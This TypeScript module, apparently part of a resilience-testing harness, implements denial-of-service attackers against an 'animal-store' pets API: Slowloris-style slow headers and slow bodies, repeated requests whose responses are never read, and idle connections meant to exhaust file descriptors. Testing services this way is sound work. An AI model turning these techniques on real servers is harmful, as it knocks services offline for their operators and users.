import { requestBytes } from "../../wire/target.ts";
import { type Attacker, times, tryOpen } from "./attacker.ts";

const DRIP_INTERVAL_MS = 200;

/** Slowloris: many connections send a byte now and then, and start over when they are closed. */
const drip =
  (connections: number, bytesOf: (secret: string) => Uint8Array, sentAtOnce: number): Attacker =>
  async ({ origin, secret = "" }, toll, isOver) => {
    const bytes = bytesOf(secret);
    await times(connections, async () => {
      while (!isOver()) {
        const connection = await tryOpen(origin, toll);
        if (!connection) continue;
        toll.requests++;
        connection.send(bytes.subarray(0, sentAtOnce));
        for (let at = sentAtOnce; at < bytes.length && !connection.isClosed && !isOver(); at++) {
          await Bun.sleep(DRIP_INTERVAL_MS);
          connection.send(bytes.subarray(at, at + 1));
        }
        connection.cut();
      }
    });
  };

/** A head that never ends. */
export const slowHeads: Attacker = drip(
  300,
  () => Buffer.from(`GET /v1/pets HTTP/1.1\r\nHost: animal-store\r\nX-Slow: ${"a".repeat(2_000)}\r\n\r\n`),
  20,
);

/** A body that never ends. */
export const slowBodies: Attacker = drip(
  300,
  (secret) => requestBytes("POST /v1/pets", { secret, body: `{"name":"${"a".repeat(2_000)}"}` }),
  250,
);

/** Requests the largest response again and again, and reads none of them. */
export const neverRead: Attacker = async ({ origin, scriptPath }, toll, isOver) => {
  const request = requestBytes(`GET ${scriptPath}`);
  await times(64, async () => {
    const connection = await tryOpen(origin, toll);
    connection?.pauseReading();
    while (connection && !connection.isClosed && !isOver()) {
      if (!connection.isStuck) {
        connection.send(request);
        toll.requests++;
      }
      await Bun.sleep(20);
    }
    connection?.cut();
  });
};

/** More idle connections than the service has descriptors. They come back when they are closed. */
export const idleConnections: Attacker = async ({ origin }, toll, isOver) => {
  await times(400, async () => {
    while (!isOver()) {
      const connection = await tryOpen(origin, toll);
      toll.requests++;
      await connection?.until(isOver, 1_000);
      while (connection && !connection.isClosed && !isOver()) await connection.until(isOver, 250);
      connection?.cut();
      await Bun.sleep(100);
    }
  });
};
